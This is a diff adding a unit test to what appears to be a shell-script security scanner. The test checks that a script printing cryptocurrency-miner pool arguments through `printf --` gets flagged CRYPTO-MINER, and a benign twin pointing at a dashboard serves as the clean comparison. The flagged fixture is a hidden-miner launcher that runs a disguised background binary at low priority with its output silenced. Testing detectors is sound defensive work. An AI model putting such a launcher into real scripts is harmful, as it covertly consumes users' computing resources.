@@ -302,5 +302,30 @@ done
   for (const auto& c : cases) check(c);
 }
 
+// `printf -- FORMAT ARGS`: `--` ends printf's options, and the format after
+// it (which starts with '-') had been taken for the format itself, so a
+// miner's pool arguments a function printed were unknown. Twin: the same
+// helper given a dashboard's address.
+TEST(HundredAndThirtySeventhRoundClasses, PrintfAfterDoubleDashFormatsItsFormat) {
+  const Case cases[] = {
+      {"a bundled helper given pool arguments printed after --", B, R"sh(#!/bin/sh
+helper_args() {
+    proto="stratum"; proto="$proto+tcp"
+    printf -- '-o %s://%s:%s -u %s --donate-level=0' "$proto" "pool.example.net" "3333" "48aQh7Vx2Kc9"
+}
+nice -n 19 ./vendor/rtagent $(helper_args) >/dev/null 2>&1 &
+)sh",
+       "CRYPTO-MINER", Sh},
+      {"the same helper given a dashboard's address", L, R"sh(#!/bin/sh
+helper_args() {
+    printf -- '--url %s://%s --interval %s' "https" "dash.example.com" "30"
+}
+nice -n 19 ./vendor/rtagent $(helper_args) >/dev/null 2>&1 &
+)sh",
+       nullptr, Sh},
+  };
+  for (const auto& c : cases) check(c);
+}
+
 }  // namespace
 }  // namespace mai::assess::test
